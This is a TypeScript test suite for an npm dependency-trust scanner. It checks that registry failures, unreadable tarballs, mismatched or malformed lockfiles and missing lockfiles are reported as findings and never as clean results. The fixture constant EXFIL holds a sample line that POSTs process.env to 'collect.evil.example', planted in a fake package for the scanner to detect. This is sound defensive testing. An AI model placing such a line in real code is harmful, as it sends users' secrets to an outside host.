import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { LocatedFinding } from '../../../src/core/report/locate';
import { type CheckOptions, type CheckReport, runCheck } from '../../../src/engine/check/run-check';
import { type RegistryCorpus, ScenarioBuilder, generateRegistryKey, tarballPath } from '../../fixtures/registry/corpus';
import { type FixtureRegistry, startFixtureRegistry } from '../../fixtures/registry/server';
import { isolatedNpmEnv } from '../../support/npm-env';

/**
 * Never a false clean (#12): each way a check could come back "no findings" without having looked — a registry or
 * advisory endpoint failing, a tarball that cannot be read, a lockfile entry that installs something else, a
 * lockfile npm ignores, no lockfile at all — against a real registry on loopback, ending in a finding.
 */
const NOW = '2025-06-01T12:00:00.000Z';
const day = (n: number) => new Date(Date.parse(NOW) - n * 86_400_000).toISOString();
const alice = { name: 'alice', email: 'alice@example.com' };
const EXFIL = "const https = require('https');\nhttps.request({ host: 'collect.evil.example', method: 'POST' }).end(JSON.stringify(process.env));\n";

async function buildCorpus(): Promise<RegistryCorpus> {
  const b = new ScenarioBuilder({ registryKey: generateRegistryKey() });
  // Its last release adds a postinstall: install-script-added when the packument can be read.
  b.package('hooky')
    .version('1.0.0', { publishedAt: day(90), publisher: alice })
    .version('1.0.1', { publishedAt: day(30), publisher: alice, scripts: { postinstall: 'node setup.js' }, files: { 'setup.js': 'console.log(1)\n' } });
  // Its last release's only change is new code that posts process.env (flagged when the tarball can be read).
  b.package('beacon')
    .version('2.0.0', { publishedAt: day(90), publisher: alice, files: { 'index.js': 'module.exports = 1;\n' } })
    .version('2.0.1', { publishedAt: day(30), publisher: alice, files: { 'index.js': `module.exports = 1;\n${EXFIL}` } });
  b.package('goodlib').version('1.2.0', { publishedAt: day(90), publisher: alice });
  b.package('evilpkg').version('6.6.6', { publishedAt: day(90), publisher: alice });
  b.package('plain').version('3.0.0', { publishedAt: day(90), publisher: alice });
  // The registry answers the bulk advisory endpoint only when it has advisories: give it one, for another package.
  b.advisory('unrelated', { vulnerable_versions: '<0.0.1', severity: 'low' });
  return b.build();
}

type Entry = { version: string; resolved?: string; integrity?: string | null };

/** A project locking `entries` (name → entry); `resolved` and `integrity` default to the registry's. */
function writeProject(
  corpus: RegistryCorpus,
  registryUrl: string,
  entries: Record<string, Entry>,
  opts: { lockfileText?: (json: string) => string; noLockfile?: boolean; ranges?: Record<string, string> } = {},
): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-incomplete-'));
  const dependencies = opts.ranges ?? Object.fromEntries(Object.entries(entries).map(([n, e]) => [n, `^${e.version}`]));
  fs.writeFileSync(path.join(dir, 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies }, null, 2));
  if (opts.noLockfile) return dir;
  const packages: Record<string, unknown> = { '': { name: 'app', version: '1.0.0', dependencies } };
  for (const [name, e] of Object.entries(entries)) {
    const doc = corpus.packuments.get(name)?.versions[e.version];
    const integrity = e.integrity === null ? undefined : (e.integrity ?? doc?.dist.integrity);
    packages[`node_modules/${name}`] = {
      version: e.version,
      resolved: e.resolved ?? `${registryUrl}${tarballPath(name, e.version).slice(1)}`,
      ...(integrity ? { integrity } : {}),
    };
  }
  const json = JSON.stringify({ name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true, packages }, null, 2);
  fs.writeFileSync(path.join(dir, 'package-lock.json'), opts.lockfileText ? opts.lockfileText(json) : json);
  return dir;
}

describe('never a false clean: what could not be judged is a finding', function () {
  this.timeout(120_000);
  let corpus: RegistryCorpus;
  let registry: FixtureRegistry;
  const cacheDirs: string[] = [];

  const run = (dir: string, extra: Partial<CheckOptions> = {}): Promise<CheckReport> =>
    runCheck({ projectDir: dir, registry: registry.url, now: new Date(NOW), env: isolatedNpmEnv(dir), advisories: { npm: true, osv: false }, ...extra });
  const codes = (r: CheckReport, name?: string) =>
    r.findings
      .filter((f) => name === undefined || f.package === name)
      .map((f) => f.code)
      .sort();
  const incomplete = (r: CheckReport) => r.findings.filter((f) => f.code === 'check-incomplete');
  const faulted = (match: RegExp, action: { status: number; body?: object }) => registry.faults.push({ match, action });

  before(async () => {
    corpus = await buildCorpus();
    registry = await startFixtureRegistry(corpus);
  });
  afterEach(() => void registry.faults.splice(0));
  after(async () => {
    await registry?.close();
    for (const d of cacheDirs) fs.rmSync(d, { recursive: true, force: true });
  });

  it('healthy: the same project is judged in full (the baseline of every scenario below)', async () => {
    const dir = writeProject(corpus, registry.url, { hooky: { version: '1.0.1' }, plain: { version: '3.0.0' } });
    const r = await run(dir);
    assert.deepEqual(r.notChecked, []);
    assert.deepEqual(codes(r, 'hooky'), ['install-script-added']);
  });

  it('a packument that answers 500: the locked version is "not checked", at the policy threshold, on its lockfile entry', async () => {
    faulted(/^\/hooky$/, { status: 500 });
    const dir = writeProject(corpus, registry.url, { hooky: { version: '1.0.1' }, plain: { version: '3.0.0' } });
    const r = await run(dir);
    const f = incomplete(r);
    assert.equal(f.length, 1);
    assert.equal(f[0].package, 'hooky');
    assert.equal(f[0].version, '1.0.1');
    assert.equal(f[0].severity, 'high', 'the default threshold: a gate fails');
    assert.match(f[0].message, /hooky@1\.0\.1 was not checked — registry history: .*answered 500/);
    const lock = fs.readFileSync(path.join(dir, 'package-lock.json'), 'utf8');
    assert.equal(f[0].line, lock.split('\n').findIndex((l) => l.includes('"node_modules/hooky"')) + 1);
    assert.deepEqual(
      r.notChecked.map((u) => [u.package, u.version, u.status, u.gaps.map((g) => g.signal)]),
      [['hooky', '1.0.1', 'not-judged', ['registry-history']]],
    );
    // Nothing about trust metadata is inferred from a packument that could not be read.
    assert.ok(!r.findings.some((x) => x.code === 'trust-metadata-unavailable'));
    const relaxed = await run(dir, { allowIncomplete: true });
    assert.equal(incomplete(relaxed)[0].severity, 'info', '--allow-incomplete: still said, as info');
  });

  it('a policy threshold of critical makes "not checked" critical', async () => {
    faulted(/^\/hooky$/, { status: 500 });
    const dir = writeProject(corpus, registry.url, { hooky: { version: '1.0.1' } });
    const r = await run(dir, { policy: { cooldownDays: 2, threshold: 'critical', severity: {}, allow: [] } });
    assert.equal(incomplete(r)[0].severity, 'critical');
  });

  it('a tarball that answers 500 during a deep scan: the contents are "not checked" (served, the new code is flagged)', async () => {
    const dir = writeProject(corpus, registry.url, { beacon: { version: '2.0.1' } });
    const served = await run(dir, { content: 'deep' });
    assert.ok(codes(served, 'beacon').includes('content-credentials'), codes(served, 'beacon').join());
    faulted(/beacon-2\.0\.1\.tgz$/, { status: 500 });
    const cacheDir = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-incomplete-cache-'));
    cacheDirs.push(cacheDir);
    const r = await run(dir, { content: 'deep', cacheDir });
    assert.ok(!codes(r, 'beacon').includes('content-credentials'));
    const f = incomplete(r);
    assert.equal(f.length, 1);
    assert.match(f[0].message, /beacon@2\.0\.1 was checked only in part — not checked: package contents: .*answered 500/);
    assert.equal(r.notChecked[0].status, 'partly-judged');
    const card = r.cards.find((c) => c.name === 'beacon')!;
    assert.deepEqual(
      card.notChecked?.map((g) => g.signal),
      ['content'],
    );
  });

  it('the keys endpoint answers 500 or no keys while packuments carry signatures: signatures "not checked", never cached as keyless', async () => {
    const dir = writeProject(corpus, registry.url, { plain: { version: '3.0.0' } });
    for (const action of [{ status: 500 }, { status: 200, body: { keys: [] } }]) {
      const cacheDir = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-incomplete-cache-'));
      cacheDirs.push(cacheDir);
      faulted(/\/-\/npm\/v1\/keys$/, action);
      const r = await run(dir, { cacheDir });
      const f = incomplete(r);
      assert.equal(f.length, 1, JSON.stringify(r.notChecked));
      assert.equal(f[0].package, '*');
      assert.match(f[0].message, /registry signature \(http:\/\/127\.0\.0\.1:\d+\/-\/npm\/v1\/keys\)/);
      assert.deepEqual(
        r.registries.map((x) => x.hasKeys),
        [false],
      );
      registry.faults.splice(0);
      // The next, healthy scan with the same cache checks signatures again.
      const healthy = await run(dir, { cacheDir });
      assert.deepEqual(healthy.notChecked, []);
      assert.deepEqual(
        healthy.registries.map((x) => x.hasKeys),
        [true],
      );
      assert.equal(healthy.cards.find((c) => c.name === 'plain')?.signature?.status, 'valid');
    }
  });

  it('a registry once seen signing is not taken for keyless when its keys answer 404 and its packuments lose their signatures', async () => {
    const dir = writeProject(corpus, registry.url, { plain: { version: '3.0.0' } });
    const seen = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-incomplete-cache-'));
    const later = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-incomplete-cache-'));
    const forgetful = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-incomplete-cache-'));
    cacheDirs.push(seen, later, forgetful);
    assert.deepEqual((await run(dir, { cacheDir: seen })).notChecked, []);
    // Later: a cache that kept only that memory (packuments and keys are asked again).
    fs.cpSync(path.join(seen, 'registry-signs-v1'), path.join(later, 'registry-signs-v1'), { recursive: true });
    const doc = corpus.packuments.get('plain')!;
    const stripped = structuredClone(doc);
    for (const v of Object.values(stripped.versions)) delete v.dist.signatures;
    corpus.packuments.set('plain', stripped);
    try {
      faulted(/\/-\/npm\/v1\/keys$/, { status: 404 });
      const remembered = await run(dir, { cacheDir: later });
      assert.deepEqual(
        remembered.notChecked.map((u) => u.gaps.map((g) => g.signal)),
        [['registry-signature']],
      );
      assert.match(incomplete(remembered)[0].message, /answered no keys, although the registry signs its packages/);
      const unknown = await run(dir, { cacheDir: forgetful });
      assert.deepEqual(unknown.notChecked, [], 'with no memory of it, a registry without keys or signatures is just keyless');
    } finally {
      corpus.packuments.set('plain', doc);
    }
  });

  it('the bulk advisory endpoint answers 503: one project-wide finding naming the source', async () => {
    faulted(/advisories\/bulk/, { status: 503 });
    const dir = writeProject(corpus, registry.url, { plain: { version: '3.0.0' } });
    const r = await run(dir);
    const f = incomplete(r);
    assert.equal(f.length, 1);
    assert.equal(f[0].package, '*');
    assert.match(f[0].message, /^Not checked for any package — advisories \(http:\/\/127\.0\.0\.1:\d+\/ bulk advisories\): .*503/);
    assert.equal(f[0].file, 'package-lock.json');
  });

  it('a locked package whose packument is 404 is version-missing', async () => {
    const dir = writeProject(corpus, registry.url, {
      vanished: { version: '1.0.0', resolved: `${registry.url}vanished/-/vanished-1.0.0.tgz`, integrity: 'sha512-AAAA' },
    });
    const r = await run(dir);
    assert.deepEqual(codes(r, 'vanished'), ['version-missing']);
    assert.match(r.findings[0].message, /the registry has no package named vanished/);
    assert.deepEqual(r.notChecked, []);
  });

  it("an entry resolved to another package's tarball on the same registry, without integrity: resolved-mismatch and integrity-missing", async () => {
    const dir = writeProject(corpus, registry.url, { goodlib: { version: '1.2.0', resolved: `${registry.url}evilpkg/-/evilpkg-6.6.6.tgz`, integrity: null } });
    const r = await run(dir);
    assert.deepEqual(codes(r, 'goodlib'), ['integrity-missing', 'resolved-mismatch']);
    const f = r.findings.find((x) => x.code === 'resolved-mismatch')!;
    assert.equal(f.severity, 'critical');
    assert.match(f.message, /resolved to evilpkg@6\.6\.6/);
  });

  it('a registry entry without integrity is integrity-missing (medium); with it, nothing', async () => {
    const dir = writeProject(corpus, registry.url, { plain: { version: '3.0.0', integrity: null } });
    const r = await run(dir);
    assert.deepEqual(
      r.findings.filter((f) => f.package === 'plain').map((f) => [f.code, f.severity]),
      [['integrity-missing', 'medium']],
    );
  });

  it('a package-lock.json npm cannot parse (a // comment): lockfile-ignored, and the versions a fresh install gets are judged', async () => {
    // Locked at the clean 1.0.0; npm ignores the file and installs 1.0.1, which adds a hook.
    const dir = writeProject(corpus, registry.url, { hooky: { version: '1.0.0' } }, { lockfileText: (json) => json.replace('{\n', '{\n  // reviewed\n') });
    const r = await run(dir);
    assert.equal(r.resolution, 'lockfile-ignored');
    assert.ok(r.findings.some((f) => f.code === 'lockfile-ignored' && f.severity === 'high'));
    assert.ok(codes(r, 'hooky').includes('install-script-added'));
    assert.equal(r.findings.find((f) => f.package === 'hooky')!.version, '1.0.1');
    assert.deepEqual(
      r.notChecked.map((u) => u.gaps.map((g) => g.signal)),
      [['dependency-tree']],
    );
  });

  it('no lockfile: each range is judged as npm resolves it now (pacote), and what they depend on is "not checked"', async () => {
    const dir = writeProject(corpus, registry.url, {}, { noLockfile: true, ranges: { hooky: '^1.0.0', plain: '3.x' } });
    const r = await run(dir);
    assert.equal(r.resolution, 'no-lockfile');
    const hooky = r.findings.find((f) => f.package === 'hooky' && f.code === 'install-script-added')!;
    assert.equal(hooky.version, '1.0.1');
    assert.equal(hooky.file, 'package.json');
    assert.equal(hooky.locations[0].kind, 'manifest');
    const f = incomplete(r);
    assert.equal(f.length, 1);
    assert.match(f[0].message, /there is no lockfile: only the direct dependencies were judged/);
    assert.equal(f[0].severity, 'high');
  });

  it('no lockfile, as of --now: a version published later is not what npm would have installed', async () => {
    const dir = writeProject(corpus, registry.url, {}, { noLockfile: true, ranges: { hooky: '^1.0.0' } });
    const r = await run(dir, { now: new Date(day(60)) });
    assert.equal(r.cards.find((c) => c.name === 'hooky')?.version, '1.0.0');
    assert.deepEqual(codes(r, 'hooky'), []);
  });

  it('no lockfile, a range nothing satisfies: "not checked" on the package.json entry', async () => {
    const dir = writeProject(corpus, registry.url, {}, { noLockfile: true, ranges: { hooky: '^9.0.0' } });
    const r = await run(dir);
    const f = incomplete(r).find((x) => x.package === 'hooky')!;
    assert.match(f.message, /\^9\.0\.0 could not be resolved: no published version matches it/);
    assert.equal(f.file, 'package.json');
    assert.equal(f.line, 5);
  });

  it('a lockfile that breaks off: the entry it breaks off in is "not checked" (never a tampered-tarball alarm from half a hash)', async () => {
    const dir = writeProject(
      corpus,
      registry.url,
      { hooky: { version: '1.0.1' }, plain: { version: '3.0.0' } },
      { noLockfile: true, ranges: { hooky: '^1.0.1', plain: '^3.0.0' } },
    );
    const full = pnpmLock(corpus, { hooky: '1.0.1', plain: '3.0.0' });
    const integrity = corpus.packuments.get('plain')!.versions['3.0.0'].dist.integrity!;
    fs.writeFileSync(path.join(dir, 'pnpm-lock.yaml'), full.slice(0, full.indexOf(integrity) + 20));
    const r = await run(dir, { content: 'off' });
    assert.ok(!r.findings.some((f) => f.code === 'integrity-mismatch'), JSON.stringify(r.findings.map(brief)));
    assert.deepEqual(
      r.notChecked.map((u) => [u.package, u.gaps.map((g) => g.signal)]),
      [
        ['*', ['dependency-tree']],
        ['plain', ['lockfile-entry']],
      ],
    );
    assert.ok(codes(r, 'hooky').includes('install-script-added'), 'the entries before it are judged');
  });

  it('a lockfile name npm would refuse (`..`) is never put in a registry URL: "not checked", with the reason', async () => {
    const dir = writeProject(
      corpus,
      registry.url,
      { plain: { version: '3.0.0' } },
      {
        lockfileText: (json) => {
          const doc = JSON.parse(json);
          doc.packages['node_modules/dots'] = {
            name: '..',
            version: '1.0.0',
            resolved: `${registry.url}plain/-/plain-3.0.0.tgz`,
            integrity: corpus.packuments.get('plain')!.versions['3.0.0'].dist.integrity,
          };
          return JSON.stringify(doc, null, 2);
        },
      },
    );
    registry.resetRequests();
    const r = await run(dir);
    const asked = registry.requests.map((q) => q.url);
    assert.ok(!asked.some((u) => u === '/' || u.includes('..') || u.includes('%2E%2E') || u.includes('%2e%2e')), JSON.stringify(asked));
    const missed = r.notChecked.find((u) => u.package === '..');
    assert.ok(missed, JSON.stringify(r.notChecked));
    assert.match(missed.gaps.map((g) => g.reason).join(' '), /not a package name npm accepts \(a name cannot start with a period\)/);
    assert.ok(incomplete(r).some((f) => f.package === '..'));
  });

  it('an unreadable lockfile entry (wrong-typed field) is "not checked", not left out', async () => {
    const dir = writeProject(
      corpus,
      registry.url,
      { plain: { version: '3.0.0' } },
      { lockfileText: (json) => json.replace('"version": "3.0.0"', '"version": 3.0') },
    );
    const r = await run(dir);
    const f = incomplete(r);
    assert.equal(f.length, 1, JSON.stringify(r.findings.map(brief)));
    assert.equal(f[0].package, 'plain');
    assert.match(f[0].message, /lockfile entry/);
  });
});

function pnpmLock(corpus: RegistryCorpus, entries: Record<string, string>): string {
  const deps = Object.entries(entries)
    .map(([n, v]) => `      ${n}:\n        specifier: ^${v}\n        version: ${v}\n`)
    .join('');
  const pkgs = Object.entries(entries)
    .map(([n, v]) => `  ${n}@${v}:\n    resolution: {integrity: ${corpus.packuments.get(n)!.versions[v].dist.integrity}}\n\n`)
    .join('');
  const snaps = Object.entries(entries)
    .map(([n, v]) => `  ${n}@${v}: {}\n\n`)
    .join('');
  return `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n${deps}\npackages:\n\n${pkgs}snapshots:\n\n${snaps}`;
}

function brief(f: LocatedFinding): string {
  return `${f.code} ${f.package}@${f.version}`;
}
